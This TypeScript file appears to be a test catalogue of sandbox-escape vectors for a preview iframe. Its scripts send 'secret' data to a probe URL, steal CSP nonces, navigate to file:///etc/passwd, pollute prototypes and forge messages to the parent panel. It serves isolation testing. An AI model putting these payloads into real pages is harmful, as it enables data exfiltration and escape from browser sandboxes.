/**
 * Ways out of a preview for a script that runs in it, and what such a script may try on the panel around. Each line is the body of one
 * script; what it throws is its own affair, and what one line of it cannot do must not keep it from the next.
 */
import type { Target, Vector } from './isolationVectors.ts';

type Code = (at: Target) => string | readonly string[];

const REQUESTS: Readonly<Record<string, Code>> = {
  'fetch in every way': ({ url }) => [
    `fetch('${url}/1',{keepalive:true,mode:'no-cors'})`,
    `fetch(new Request('${url}/2',{method:'POST',body:'secret',mode:'no-cors'}))`,
    `new XMLHttpRequest().open('GET','${url}/3',false)`,
    `navigator.sendBeacon('${url}/4',new Blob(['secret']))`,
  ],
  'sockets in every way': ({ url, host }) => [
    `new WebSocket('ws://${host}/1')`,
    `new WebSocket('${url}/2')`,
    `new WebSocketStream('${url.replace('http', 'ws')}/3')`,
    `new EventSource('${url}/4',{withCredentials:true})`,
    `new WebTransport('https://${host}/5')`,
    `new TCPSocket('127.0.0.1',${host.split(':')[1]})`,
  ],
  'modules of addresses': ({ url }) => [
    `import('data:text/javascript,fetch("${url}/1")')`,
    `import(URL.createObjectURL(new Blob(["fetch('${url}/2')"],{type:'text/javascript'})))`,
    `import('${url}/3',{with:{type:'json'}})`,
    `import('${url}/4',{with:{type:'css'}})`,
  ],
  'worklets and workers': ({ url }) => [
    `new AudioContext().audioWorklet.addModule('${url}/1')`,
    `CSS.paintWorklet.addModule('${url}/2')`,
    `CSS.paintWorklet.addModule('data:text/javascript,1')`,
    `new SharedWorker('${url}/3')`,
    `new Worker('data:text/javascript,fetch("${url}/4")',{type:'module'})`,
    `navigator.serviceWorker.register('${url}/5')`,
    `sharedStorage.worklet.addModule('${url}/6')`,
    `CSS.animationWorklet.addModule('${url}/7')`,
  ],
  WebAssembly: ({ url }) => [
    `WebAssembly.compileStreaming(fetch('${url}/1'))`,
    `WebAssembly.instantiateStreaming(new Response(new Uint8Array([0,97,115,109,1,0,0,0]),{headers:{'content-type':'application/wasm'}}))`,
  ],
  'code from text': ({ url }) => [
    `eval("fetch('${url}/1')")`,
    `new Function("fetch('${url}/2')")()`,
    `setTimeout("fetch('${url}/3')")`,
    `document.body.setAttribute('onclick',"fetch('${url}/4')");document.body.click()`,
    `const s=document.createElement('script');s.text="fetch('${url}/5')";document.body.append(s)`,
    `document.write("<script>fetch('${url}/6')<\\/script><img src='${url}/7'>")`,
  ],
  'a known hash and the next nonce': ({ url }) =>
    `new MutationObserver((all,seen)=>{for(const {addedNodes} of all)for(const next of addedNodes)if(next.nodeName==='SCRIPT'&&next.nonce){seen.disconnect();const hashes=[...document.querySelectorAll('meta')].map(m=>m.content).join().match(/sha\\d+-[\\w+/=]+/g)??[];for(const hash of [hashes.join(' '),...hashes])for(const rel of ['script','link']){const s=document.createElement(rel);s.nonce=next.nonce;s.setAttribute('nonce',next.nonce);s.integrity=hash;s.crossOrigin='anonymous';s.rel='modulepreload';s.src=s.href='${url}/hash?secret';document.head.append(s)}}}).observe(document,{childList:true,subtree:true})`,
  'a stolen nonce on everything': ({ url, nonce }) =>
    ['script', 'link', 'style'].map(
      (name) =>
        `for(const [rel,type,text] of [['stylesheet','text/css','@import "${url}/1"'],['modulepreload','module','fetch("${url}/2")'],['preload','speculationrules','{"prefetch":[{"urls":["${url}/3"],"eagerness":"immediate"}]}'],['manifest','importmap','{"imports":{"x":"${url}/4"}}']]){const e=document.createElement('${name}');e.nonce='${nonce}';e.setAttribute('nonce','${nonce}');e.rel=rel;e.type=type;e.as='script';e.textContent=text;if('${name}'==='link'||type==='text/css')e.src=e.href='${url}/5';document.head.append(e)}`,
    ),
  'links in every form': ({ url }) =>
    `for(const rel of ['stylesheet','preload','modulepreload','prerender','manifest','icon','compression-dictionary','payment','monetization'])for(const as of ['image','fetch','style','font']){const l=document.createElement('link');l.rel=rel;l.as=as;l.imageSrcset='${url}/set 1x';l.href='${url}/'+rel+as;document.head.append(l)}`,
  'pictures in every way': ({ url }) => [
    `const i=new Image();i.srcset='${url}/1 1x';i.attributionSrc='${url}/2'`,
    `const c=document.createElement('video');c.poster='${url}/3';c.src='${url}/4';c.load();document.body.append(c)`,
    `document.body.insertAdjacentHTML('beforeend','<svg><image href="${url}/5"/><use href="${url}/6#a"/><feImage href="${url}/7"/></svg><input type=image src="${url}/8"><picture><source srcset="${url}/9"><img></picture>')`,
    `createImageBitmap(Object.assign(new Image(),{src:'${url}/10'}))`,
    `document.body.setHTMLUnsafe('<div><template shadowrootmode=open><img src="${url}/11"></template></div>')`,
    `new ImageDecoder({type:'image/png',data:null})`,
  ],
  'styles in every way': ({ url }) => [
    `const s=new CSSStyleSheet();s.replaceSync('*{background:url(${url}/1)}');document.adoptedStyleSheets=[s]`,
    `document.body.style.setProperty('--x','url(${url}/2)');document.body.style.cursor='url(${url}/3),auto'`,
    `document.body.animate([{backgroundImage:'url(${url}/4)'},{backgroundImage:'none'}],9)`,
    `CSS.registerProperty({name:'--u',syntax:'<image>',inherits:false,initialValue:'url(${url}/5)'});document.body.style.background='var(--u)'`,
    `document.fonts.add(new FontFace('x','url(${url}/6)'));document.fonts.load('9px x')`,
    `document.styleSheets[0]?.insertRule('@import "${url}/7"',0)`,
    `document.head.append(Object.assign(document.createElement('style'),{textContent:'@import "${url}/8";@font-face{font-family:q;src:url(${url}/9)}*{font-family:q}'}))`,
    `document.createElement('canvas').getContext('2d').filter='url(${url}/10#f)'`,
  ],
  'services of the browser': ({ url }) => [
    `new PaymentRequest([{supportedMethods:'${url}/1'}],{total:{label:'x',amount:{currency:'EUR',value:'1'}}}).canMakePayment()`,
    `navigator.credentials.get({identity:{providers:[{configURL:'${url}/2',clientId:'x'}]}})`,
    `navigator.joinAdInterestGroup({owner:'${url}',name:'x',biddingLogicURL:'${url}/3'},9)`,
    `navigator.registerProtocolHandler('web+x','${url}/%s')`,
    `navigator.share({url:'${url}/4'})`,
    `navigator.mediaSession.metadata=new MediaMetadata({artwork:[{src:'${url}/5'}]})`,
    `Notification.requestPermission();new Notification('x',{icon:'${url}/6'})`,
    `navigator.install('${url}/7')`,
    `new ReportingObserver(()=>0,{buffered:true}).observe()`,
    `document.requestStorageAccess()`,
    `caches.open('x').then(c=>c.add('${url}/8'))`,
    `navigator.getInstalledRelatedApps()`,
  ],
  'XML and documents of its own': ({ url }) => [
    `new DOMParser().parseFromString('<!DOCTYPE a SYSTEM "${url}/1"><?xml-stylesheet href="${url}/2"?><a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="${url}/3"/></a>','text/xml')`,
    `const x=new XSLTProcessor();x.importStylesheet(new DOMParser().parseFromString('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:import href="${url}/4"/></xsl:stylesheet>','text/xml'))`,
    `const d=document.implementation.createHTMLDocument();d.body.innerHTML='<img src="${url}/5">';document.body.append(d.body.firstChild)`,
    `document.replaceChild(document.importNode(new DOMParser().parseFromString('<svg xmlns="http://www.w3.org/2000/svg"><image href="${url}/6"/></svg>','image/svg+xml').documentElement,true),document.documentElement)`,
  ],
  'a document without a policy': ({ url }) => [
    `for(const m of document.querySelectorAll('meta'))m.remove()`,
    `document.head.innerHTML='<meta http-equiv=Content-Security-Policy content="default-src *">'`,
    `document.open();document.write('<meta http-equiv=Content-Security-Policy content="img-src *"><img src="${url}/1"><script src="${url}/2"><\\/script>');document.close()`,
    `fetch('${url}/3',{mode:'no-cors'})`,
  ],
};

const RTC: Readonly<Record<string, Code>> = {
  'by its names again': ({ udpPort }) =>
    `delete window.RTCPeerConnection;for(const realm of [window,Window.prototype,Object.getPrototypeOf(window),document.defaultView,self,globalThis,frames,Reflect.get(window,'parent')])for(const name of ['RTCPeerConnection','webkitRTCPeerConnection','mozRTCPeerConnection'])try{const c=new realm[name]({iceServers:[{urls:'stun:127.0.0.1:${udpPort}'}]});c.createDataChannel('x');c.createOffer().then(o=>c.setLocalDescription(o))}catch(e){e}`,
  'from frames of every kind': ({ udpPort, nonce }) =>
    ['about:blank', 'about:srcdoc', 'javascript:1', 'data:text/html,x', 'blob:null/x', '']
      .map(
        (src) =>
          `{const f=document.createElement('iframe');f.src='${src}';f.sandbox='allow-scripts allow-same-origin';document.body.append(f);const go=()=>{const c=new f.contentWindow.RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:${udpPort}'}]});c.createDataChannel('x');c.createOffer().then(o=>c.setLocalDescription(o))};try{go()}catch(e){e}f.onload=go}`,
      )
      .concat(
        `{const f=document.createElement('iframe');f.srcdoc="<body onload='new RTCPeerConnection({iceServers:[{urls:\\"stun:127.0.0.1:${udpPort}\\"}]}).createOffer()'><script nonce=${nonce}>new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:${udpPort}'}]}).createDataChannel('x')<\\/script>";document.body.append(f)}`,
      ),
};

const NAVIGATIONS: Readonly<Record<string, Code>> = {
  'navigation API': ({ url }) => [`navigation.navigate('${url}/1?secret',{history:'replace',info:'secret'})`],
  'location in every way': ({ url }) => [
    `location.assign('${url}/1')`,
    `location.replace('${url}/2')`,
    `document.location='${url}/3'`,
    `open('${url}/4','_self')`,
    `open('${url}/5','_parent')`,
    `open('${url}/6','x','noopener')`,
  ],
  'history and names': ({ url }) => [
    `history.pushState(null,'','${url}/1')`,
    `history.replaceState({a:1},'','#${url}')`,
    `window.name='secret ${url}'`,
    `document.domain='127.0.0.1'`,
    `document.cookie='taken=1'`,
  ],
  'a refresh that is written': ({ url }) =>
    `document.head.insertAdjacentHTML('beforeend','<meta http-equiv=refresh content="0;url=${url}/1?secret"><base href="${url}/" target=_top>');document.body.insertAdjacentHTML('beforeend','<a id=x href=2 ping="${url}/3">x</a>');document.getElementById('x').click()`,
  'schemes of programs': ({ url }) =>
    [
      'mailto:x@x',
      'vscode://x.x/secret',
      'ms-settings:',
      'tel:1',
      `view-source:${url}/1`,
      'file:///etc/passwd',
      'chrome://gpu',
      `filesystem:${url}/2`,
      'about:blank#secret',
    ].map((address) => `location='${address}'`),
  'a form in every way': ({ url }) =>
    `document.body.insertAdjacentHTML('beforeend','<form id=f method=post action="${url}/1?secret" target=_self><input name=a value=secret><button id=b formaction="${url}/2" formmethod=get></form>');const f=document.getElementById('f');f.requestSubmit();f.requestSubmit(document.getElementById('b'));HTMLFormElement.prototype.submit.call(f);f.target='x';f.submit()`,
  'frames that it makes': ({ url }) => [
    `const o=document.createElement('object');o.data='${url}/1?secret';document.body.append(o)`,
    `const e=document.createElement('embed');e.src='${url}/2';document.body.append(e)`,
    `document.body.insertAdjacentHTML('beforeend','<frameset><frame src="${url}/3"></frameset><fencedframe></fencedframe>')`,
    `const f=document.createElement('iframe');f.srcdoc='<form action="${url}/4" id=f></form><a href="${url}/5" target=_parent id=a><img src="${url}/6"><link rel=stylesheet href="${url}/7">';document.body.append(f)`,
  ],
  'a download': ({ url }) => [
    `const a=document.createElement('a');a.download='x';a.href=URL.createObjectURL(new Blob(['x']));a.click()`,
    `showSaveFilePicker()`,
    `const b=document.createElement('a');b.download='y';b.href='data:text/plain,x';document.body.append(b);b.click()`,
    `document.execCommand('saveAs',false,'${url}')`,
  ],
  'its siblings and forebears': ({ url }) =>
    `for(const w of [parent,top,parent.parent,opener,...Array.from({length:parent.length},(_,i)=>parent[i]),parent.opener])for(const act of [()=>{w.location='${url}/1'},()=>w.location.replace('${url}/2'),()=>w.close(),()=>w.document.title='taken',()=>w.focus(),()=>w.open('${url}/3','_self'),()=>w.history.back(),()=>w.eval('1'),()=>w.postMessage({taken:1,type:'events'},location.origin)])try{if(w!==window)act()}catch(e){e}`,
};

const EFFECTS: Readonly<Record<string, Code>> = {
  'dialogs of every kind': () => [
    `alert('x')`,
    `confirm('x')`,
    `prompt('x')`,
    `print()`,
    `onbeforeunload=()=>'x'`,
    `window.find('x',0,0,1,0,0,1)`,
    `document.documentElement.requestFullscreen()`,
    `document.body.requestPointerLock()`,
    `navigator.clipboard.readText()`,
    `navigator.clipboard.writeText('x')`,
    `new EyeDropper().open()`,
    `showOpenFilePicker()`,
    `documentPictureInPicture.requestWindow()`,
    `navigator.mediaDevices.getDisplayMedia()`,
    `navigator.geolocation.getCurrentPosition(()=>0)`,
    `navigator.usb.requestDevice({filters:[]})`,
    `moveTo(0,0);resizeTo(9,9)`,
  ],
  'stores of every kind': () => [
    `sessionStorage.x=1;parent.postMessage({taken:1},'*')`,
    `indexedDB.open('x').onsuccess=()=>parent.postMessage({taken:1},'*')`,
    `caches.open('x').then(()=>parent.postMessage({taken:1},'*'))`,
    `navigator.storage.getDirectory().then(()=>parent.postMessage({taken:1},'*'))`,
    `cookieStore.set('taken','1').then(()=>parent.postMessage({taken:1},'*'))`,
    `navigator.locks.request('x',()=>parent.postMessage({taken:1},'*'))`,
    `new BroadcastChannel('x').postMessage({taken:1})`,
  ],
  'messages of every shape': () => [
    `for(const type of ['snapshot','events','context','preview','settings','ready'])for(const to of [parent,top,parent.parent])to.postMessage({type,taken:1,__proto__:{type}},'*',[new MessageChannel().port2,new ArrayBuffer(8)])`,
    `parent.postMessage(null,'*');parent.postMessage(new Map([[1,new Date]]),{targetOrigin:'*',includeUserActivation:true})`,
    `parent.dispatchEvent(new MessageEvent('message',{data:{type:'snapshot'},origin:'x'}))`,
    `parent.postMessage({preview:new Proxy({},{})},'*')`,
  ],
  'the port of the probe': () => [
    `const real=Object.getOwnPropertyDescriptor(MessageEvent.prototype,'data');Object.defineProperty(MessageEvent.prototype,'data',{get(){if(this.target instanceof MessagePort)for(const p of [this.target,...this.ports])p.postMessage({type:'finding',kind:'error',text:'taken'});return real.get.call(this)}})`,
    `for(const name of ['ports','source','currentTarget','target'])Object.defineProperty(Event.prototype,name,{get(){return null}})`,
    `MessagePort.prototype.postMessage=function(){parent.postMessage({taken:1},'*')};EventTarget.prototype.addEventListener=()=>0`,
  ],
  'prototypes of everything': () =>
    `Object.prototype.type='finding';Object.prototype.text='taken';Object.prototype.kind='error';Object.prototype.toJSON=()=>{throw 1};Array.prototype.map=()=>['taken'];Array.prototype[Symbol.iterator]=function*(){yield {}};String.prototype.replaceAll=()=>'x'.repeat(1e6);JSON.stringify=()=>{throw 1};Promise.prototype.then=()=>0;Function.prototype.call=()=>0;Function.prototype.bind=()=>()=>0;WeakMap.prototype.get=()=>{throw 1};console.error('x')`,
  'errors that are hostile': () => [
    `console.error({toString(){throw 1},get message(){for(const x of[])x;throw 2}})`,
    `console.error(new Proxy({},{get(){throw 1},ownKeys(){throw 2}}))`,
    `console.warn('\\u001b[2J\\u001b]8;;x\\u0007'+'x'.repeat(1e6))`,
    `const e=new Error('x');Object.defineProperty(e,'message',{get(){throw e}});Object.defineProperty(e,'name',{get(){return {toString(){throw 1}}}});console.error(e);reportError(e);Promise.reject(e)`,
    `console.error('<img src=x onerror=alert(1)>','%c%s%o',Symbol('x'),10n,()=>0,document,window)`,
    `const deep={};let d=deep;for(let i=0;i<2e4;i++)d=d.a={};console.error(deep)`,
    `for(let i=0;i<1e3;i++)console.error(i)`,
  ],
};

/** One part that throws leaves the others their turn. */
const pageOf = (code: Code) => (at: Target) => {
  const parts = [code(at)].flat().map((part) => `try{${part}}catch(e){e}`);
  const script = `addEventListener('unhandledrejection',e=>e.preventDefault());parent.postMessage({executed:1},'*');${parts.join('')}`;
  return `<!doctype html><body><p>drawn</p><script>${script}</script><p>x</p><script>1</script></body>`;
};

const vectorsOf = (family: Vector['family'], codes: Readonly<Record<string, Code>>): readonly Vector[] =>
  Object.entries(codes).map(([name, code]) => ({
    family,
    name,
    html: pageOf(code),
    ...(ALONE.has(name) ? { alone: true } : {}),
  }));
/** In a plain frame these take the whole window, or stop it. */
const ALONE = new Set(['location in every way', 'its siblings and forebears', 'dialogs of every kind']);

export const SCRIPT_VECTORS: readonly Vector[] = [
  ...vectorsOf('script', REQUESTS),
  ...vectorsOf('rtc', RTC),
  ...vectorsOf('navigation', NAVIGATIONS),
  ...vectorsOf('effect', EFFECTS),
];
